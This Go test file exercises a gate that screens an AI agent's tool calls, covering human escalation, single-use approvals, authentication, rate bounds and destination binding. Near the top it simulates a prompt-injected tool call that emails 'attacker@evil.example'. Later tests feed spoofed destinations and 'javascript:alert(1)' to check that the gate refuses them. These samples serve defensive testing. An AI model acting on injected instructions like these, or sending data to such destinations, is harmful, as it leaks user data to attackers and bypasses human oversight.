package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/actgate/actgate/internal/ef"
	"github.com/actgate/actgate/internal/fileutil"
	"github.com/actgate/actgate/internal/hostloop"
	"github.com/actgate/actgate/internal/journal"
	"github.com/actgate/actgate/internal/sink"
	"github.com/actgate/actgate/internal/standalone"
)

// startHostLoopGate is startTestGate with extra configuration appended (limits).
func startHostLoopGate(t *testing.T, extra string) *testGate {
	t.Helper()
	g := startTestGate(t)
	if extra == "" {
		return g
	}
	g.stop()
	b, err := os.ReadFile(g.cfgFile)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(g.cfgFile, append(b, extra...), 0o600); err != nil {
		t.Fatal(err)
	}
	g.start()
	return g
}

// host is the host loop of agent demo-agent against g, with its token.
func (g *testGate) host() *hostLoopClient {
	g.t.Helper()
	tok, err := fileutil.ReadToken(g.cfg.AgentTokenPath(g.cfg.Agent.Name))
	if err != nil {
		g.t.Fatal(err)
	}
	return &hostLoopClient{base: g.base, token: tok, http: &http.Client{}}
}

func (g *testGate) alice() *apiClient {
	g.t.Helper()
	tok, err := standalone.ReadPrivate(g.cfg.PrincipalTokenPath("alice"))
	if err != nil {
		g.t.Fatal(err)
	}
	return &apiClient{Server: g.base, Principal: "alice", Token: strings.TrimSpace(string(tok)), HTTP: &http.Client{}}
}

func (g *testGate) pendingMoments() []sink.Moment {
	g.t.Helper()
	ms, err := g.rt.Gate().Moments(context.Background(), sink.MomentFilter{Pending: true})
	if err != nil {
		g.t.Fatal(err)
	}
	return ms
}

// toolUse is an Anthropic Messages tool_use block as the API returns it.
func toolUse(id, name, input string) json.RawMessage {
	return json.RawMessage(fmt.Sprintf(`{"type":"tool_use","id":%q,"name":%q,"input":%s}`, id, name, input))
}

// TestServeHostLoopEscalation is the host-loop hand-off through a real `actgate serve` and a
// real upstream: a deny (vendor-shaped, nothing run), an escalation the host polls by
// re-enforcing the same block in the same session (the same BindingMoment every time, no new
// one), alice's resolution, one allow (the host runs the tool: the upstream's count is 1), the
// outcome reported, and a re-enforce answered replayed with the recorded result, never allowed
// again.
func TestServeHostLoopEscalation(t *testing.T) {
	g := startTestGate(t)
	h := g.host()
	ctx := context.Background()
	const session = "conv-1"

	d, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: session, Provenance: "retrieval",
		Block: toolUse("toolu_01", "email_send", `{"to":"attacker@evil.example","subject":"statement"}`)})
	if err != nil || d.Allow || d.Code != ef.EFInstructionProvenanceFailure || d.OperationID != "" {
		t.Fatalf("injected email: %+v %v", d, err)
	}
	var deny struct {
		Type      string `json:"type"`
		ToolUseID string `json:"tool_use_id"`
		IsError   bool   `json:"is_error"`
	}
	if err := json.Unmarshal(d.Deny, &deny); err != nil || deny.Type != "tool_result" || deny.ToolUseID != "toolu_01" || !deny.IsError ||
		!strings.Contains(string(d.Deny), string(ef.EFInstructionProvenanceFailure)) {
		t.Fatalf("deny %s %v", d.Deny, err)
	}

	pay := toolUse("toolu_02", "send_payment", `{"to":"bob","amount":250}`)
	req := hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: session, Provenance: "user", Block: pay}
	esc, err := h.enforce(ctx, req)
	if err != nil || esc.Allow || esc.Code != ef.EFEscalationRequired || len(esc.BindingMoments) != 1 || esc.EnvelopeDigest == "" || len(esc.BindingMoment) == 0 {
		t.Fatalf("escalation: %+v %v", esc, err)
	}
	// Polling: the same block in the same session is the same moment, never a new one.
	for i := range 3 {
		again, err := h.enforce(ctx, req)
		if err != nil || again.Allow || again.Code != ef.EFEscalationRequired || len(again.BindingMoments) != 1 ||
			again.BindingMoments[0] != esc.BindingMoments[0] || again.EnvelopeDigest != esc.EnvelopeDigest {
			t.Fatalf("poll %d: %+v %v", i, again, err)
		}
	}
	if ms := g.pendingMoments(); len(ms) != 1 || ms[0].ID != esc.BindingMoments[0] {
		t.Fatalf("pending moments after polling: %d", len(ms))
	}
	if n := g.up.Count("send_payment"); n != 0 {
		t.Fatalf("upstream ran send_payment %d times before the resolution", n)
	}

	a := g.alice()
	m, err := a.Moment(ctx, esc.BindingMoments[0])
	if err != nil {
		t.Fatal(err)
	}
	rr, err := a.Resolve(ctx, m.ID, fmt.Appendf(nil, `{"binding_moment_resolution":{"envelope_digest":%q,"resolution":"option","option_idx":0}}`, m.EnvelopeDigest))
	if err != nil || rr.AuthorityID == "" {
		t.Fatalf("resolve: %+v %v", rr, err)
	}

	run, err := h.enforce(ctx, req)
	if err != nil || !run.Allow || run.AuthorityID != rr.AuthorityID || run.OperationID == "" || run.State != journal.StateDispatchPending {
		t.Fatalf("after the resolution: %+v %v", run, err)
	}
	result, err := runTool(ctx, g.up.URL, http.DefaultClient, "send_payment", json.RawMessage(`{"to":"bob","amount":250}`))
	if err != nil {
		t.Fatal(err)
	}
	cr, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostExecuted, Result: result})
	if err != nil || cr.State != journal.StateExecuted || cr.OperationID != run.OperationID {
		t.Fatalf("complete: %+v %v", cr, err)
	}
	rec, err := g.rt.Store().Record(ctx, run.OperationID)
	if err != nil || rec.State != journal.StateExecuted || rec.EvidenceDigest != sink.EvidenceDigest(result) {
		t.Fatalf("journal: %+v %v", rec, err)
	}
	// The host retries the block (a restarted turn): the recorded result, not run again.
	for range 2 {
		re, err := h.enforce(ctx, req)
		if err != nil || re.Allow || !re.Replayed || string(re.Result) != string(result) || re.OperationID != run.OperationID {
			t.Fatalf("replay: %+v %v", re, err)
		}
	}
	if _, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostFailed}); err == nil ||
		!strings.Contains(err.Error(), string(hostloop.CodeSettled)) {
		t.Fatalf("second complete: %v", err)
	}
	// Another session's identical block needs its own moment: the authority was single-use.
	other, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "conv-2", Provenance: "user", Block: pay})
	if err != nil || other.Allow || other.Code != ef.EFEscalationRequired || other.BindingMoments[0] == esc.BindingMoments[0] {
		t.Fatalf("other session: %+v %v", other, err)
	}
	if n := g.up.Count("send_payment"); n != 1 {
		t.Fatalf("upstream ran send_payment %d times, want 1", n)
	}
}

// TestServeHostLoopAuthentication: serve authenticates a host loop as an MCP agent; without
// the agent's token, or with a wrong one (a principal's), nothing is enforced.
func TestServeHostLoopAuthentication(t *testing.T) {
	g := startTestGate(t)
	ctx := context.Background()
	body := `{"vendor":"anthropic","session":"s","block":{"type":"tool_use","id":"toolu_1","name":"send_payment","input":{"to":"bob","amount":1}}}`
	for _, tc := range []struct{ name, token string }{
		{"no token", ""},
		{"wrong token", "not-a-token"},
		{"a principal's token", g.alice().Token},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, path := range []string{hostloop.EnforcePath, hostloop.CompletePath} {
				c := &hostLoopClient{base: g.base, token: tc.token, http: &http.Client{}}
				status, b, err := c.post(ctx, path, []byte(body))
				var e hostloop.ErrorResponse
				if err != nil || status != http.StatusUnauthorized || json.Unmarshal(b, &e) != nil || e.Error.Code != hostloop.CodeUnauthenticated {
					t.Fatalf("%s: HTTP %d %s %v", path, status, b, err)
				}
			}
		})
	}
	if ms := g.pendingMoments(); len(ms) != 0 {
		t.Fatalf("an unauthenticated enforce raised %d moments", len(ms))
	}
	if n := g.up.Count(""); n != 0 {
		t.Fatalf("upstream ran %d calls", n)
	}
}

// TestServeHostLoopPendingBound: the calls under way are bounded per agent and in total
// (limits.hostLoopCallsPerAgent, limits.hostLoopCalls): at the bound /v1/enforce answers 429 HOSTLOOP_PENDING_LIMIT
// and enforces nothing; completing the call under way frees the slot.
func TestServeHostLoopPendingBound(t *testing.T) {
	for _, limit := range []string{"hostLoopCallsPerAgent", "hostLoopCalls"} {
		t.Run(limit, func(t *testing.T) { testPendingBound(t, "limits:\n  "+limit+": 1\n") })
	}
}

func testPendingBound(t *testing.T, limits string) {
	g := startHostLoopGate(t, limits)
	h := g.host()
	ctx := context.Background()
	req := hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "s1", Provenance: "user",
		Block: toolUse("toolu_1", "send_payment", `{"to":"bob","amount":250}`)}
	esc, err := h.enforce(ctx, req)
	if err != nil || esc.Code != ef.EFEscalationRequired {
		t.Fatalf("escalation: %+v %v", esc, err)
	}
	a := g.alice()
	m, err := a.Moment(ctx, esc.BindingMoments[0])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := a.Resolve(ctx, m.ID, fmt.Appendf(nil, `{"binding_moment_resolution":{"envelope_digest":%q,"resolution":"option","option_idx":0}}`, m.EnvelopeDigest)); err != nil {
		t.Fatal(err)
	}
	run, err := h.enforce(ctx, req)
	if err != nil || !run.Allow {
		t.Fatalf("allow: %+v %v", run, err)
	}
	// The dispatch awaits its outcome: the agent's one slot is taken.
	_, err = h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "s2", Provenance: "user",
		Block: toolUse("toolu_2", "send_payment", `{"to":"carol","amount":5}`)})
	if err == nil || !strings.Contains(err.Error(), "HTTP 429 "+string(hostloop.CodePendingLimit)) {
		t.Fatalf("at the bound: %v", err)
	}
	if ms := g.pendingMoments(); len(ms) != 0 {
		t.Fatalf("a call refused at the bound raised %d moments", len(ms))
	}
	if _, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostExecuted}); err != nil {
		t.Fatal(err)
	}
	if d, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "s3", Provenance: "user",
		Block: toolUse("toolu_3", "get_balance", `{"account":"main"}`)}); err != nil || !d.Allow {
		t.Fatalf("after the outcome: %+v %v", d, err)
	}
}

// destinationRules are rules for tools a host runs at a destination of its own (computer use,
// an HTTP API), appended to the demo policy: a computer tool allowed at https://pay.example
// only, and a checkout whose submit needs alice at either of two shops.
const destinationRules = `  - name: computer-use
    tools: [computer]
    consequenceClass: COMMUNICATION
    destinations: ["https://pay.example"]
  - name: checkout
    tools: [checkout_submit]
    consequenceClass: FINANCIAL
    evidence:
      role: HumanAuthorization
      principals: [alice]
    destinations: ["https://pay.example", "https://shop.example"]
    alternatives:
    - label: Submit at most 50
      reasoning: Caps the amount.
      args:
        amount: 50
`

// TestServeHostLoopDestination is tool-use-binding §22 T-D and T-E through `actgate serve`'s
// host-loop API: the destination the host is about to contact is the call's live destination.
// An MCP call whose server URL was swapped (another host, or another MCP server at the same
// origin) is refused EF_DESTINATION_MISMATCH and the upstream's count does not move; a computer
// tool_use is allowed at the authorised origin and refused after the page's origin changed; a
// malformed destination is a bad request, never a decision.
func TestServeHostLoopDestination(t *testing.T) {
	g := startHostLoopGate(t, destinationRules)
	h := g.host()
	ctx := context.Background()
	balance := toolUse("toolu_b", "get_balance", `{"account":"ops"}`)
	u, err := url.Parse(g.up.URL)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, dest string
		code       ef.EFCode
	}{
		{"the server's own URL", g.up.URL, ""},
		{"T-D another host", "http://127.0.0.2:" + u.Port() + u.Path, ef.EFDestinationMismatch},
		{"T-D another port", "http://" + u.Hostname() + ":1" + u.Path, ef.EFDestinationMismatch},
		{"T-D another MCP server at the same origin", "http://" + u.Host + "/evil" + u.Path, ef.EFDestinationMismatch},
		{"T-D https instead of http", "https://" + u.Host + u.Path, ef.EFDestinationMismatch},
	} {
		d, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "td", Provenance: "user", Block: balance, Destination: tc.dest})
		if err != nil || d.Allow != (tc.code == "") || d.Code != tc.code || d.OperationID != "" {
			t.Fatalf("%s: %+v %v", tc.name, d, err)
		}
		if tc.code != "" && !strings.Contains(string(d.Deny), string(ef.EFDestinationMismatch)) {
			t.Fatalf("%s: deny %s", tc.name, d.Deny)
		}
	}
	if n := g.up.Count("get_balance"); n != 0 {
		t.Fatalf("the upstream ran get_balance %d times (a host-loop allow runs nothing at the gate)", n)
	}

	// T-E: the computer tool at the authorised origin, then after the page moved elsewhere.
	click := toolUse("toolu_c", "computer", `{"action":"left_click","coordinate":[640,410]}`)
	for _, tc := range []struct {
		dest string
		code ef.EFCode
	}{
		{"https://pay.example/checkout", ""},
		{"https://pay.example.evil.example/checkout", ef.EFDestinationMismatch},
		{"http://pay.example/checkout", ef.EFDestinationMismatch},
		{"", ef.EFDestinationMismatch}, // the server's URL is not in the rule's destinations
	} {
		d, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: "te", Provenance: "user", Block: click, Destination: tc.dest})
		if err != nil || d.Allow != (tc.code == "") || d.Code != tc.code {
			t.Fatalf("T-E at %q: %+v %v", tc.dest, d, err)
		}
	}

	for _, bad := range []string{"pay.example", "https://u@pay.example/", "javascript:alert(1)", "https://pay.example/\n"} {
		_, err := h.enforce(ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Block: click, Destination: bad})
		if err == nil || !strings.Contains(err.Error(), string(hostloop.CodeBadRequest)) || !strings.Contains(err.Error(), "destination") {
			t.Fatalf("destination %q: %v", bad, err)
		}
	}
}

// TestServeHostLoopDestinationBindsAuthority: the authority a principal issues is bound to the
// destination the call escalated at (tool-use-binding §13, §22 T-D): the same block, resolved at
// https://pay.example, is refused EF_DESTINATION_MISMATCH at https://shop.example (a destination
// the policy allows, so the refusal is the authority's binding, and nothing is consumed), and
// still runs once at https://pay.example.
func TestServeHostLoopDestinationBindsAuthority(t *testing.T) {
	g := startHostLoopGate(t, destinationRules)
	h := g.host()
	ctx := context.Background()
	const session = "shop-1"
	submit := toolUse("toolu_s", "checkout_submit", `{"cart":"c-9","amount":120}`)
	at := func(dest string) hostloop.EnforceRequest {
		return hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Session: session, Provenance: "user", Block: submit, Destination: dest}
	}
	esc, err := h.enforce(ctx, at("https://pay.example/cart"))
	if err != nil || esc.Code != ef.EFEscalationRequired || len(esc.BindingMoments) != 1 {
		t.Fatalf("escalation: %+v %v", esc, err)
	}
	if !strings.Contains(string(esc.BindingMoment), "https://pay.example/cart") {
		t.Fatalf("the binding moment does not show the destination: %s", esc.BindingMoment)
	}
	a := g.alice()
	rr, err := a.Resolve(ctx, esc.BindingMoments[0], fmt.Appendf(nil, `{"binding_moment_resolution":{"envelope_digest":%q,"resolution":"option","option_idx":0}}`, esc.EnvelopeDigest))
	if err != nil || rr.AuthorityID == "" {
		t.Fatalf("resolve: %+v %v", rr, err)
	}
	for range 2 {
		b, err := h.enforce(ctx, at("https://shop.example/cart"))
		if err != nil || b.Allow || b.OperationID != "" || b.Code != ef.EFDestinationMismatch || len(b.BindingMoments) != 0 {
			t.Fatalf("at another destination: %+v %v", b, err)
		}
	}
	run, err := h.enforce(ctx, at("https://pay.example/cart"))
	if err != nil || !run.Allow || run.AuthorityID != rr.AuthorityID || run.OperationID == "" {
		t.Fatalf("at the resolved destination: %+v %v", run, err)
	}
	rec, err := g.rt.Store().Record(ctx, run.OperationID)
	if err != nil || rec.Upstream != "https://pay.example/cart" {
		t.Fatalf("journal: %+v %v", rec, err)
	}
	if _, err := h.complete(ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: hostloop.HostExecuted, Result: json.RawMessage(`{"ok":true}`)}); err != nil {
		t.Fatal(err)
	}
}
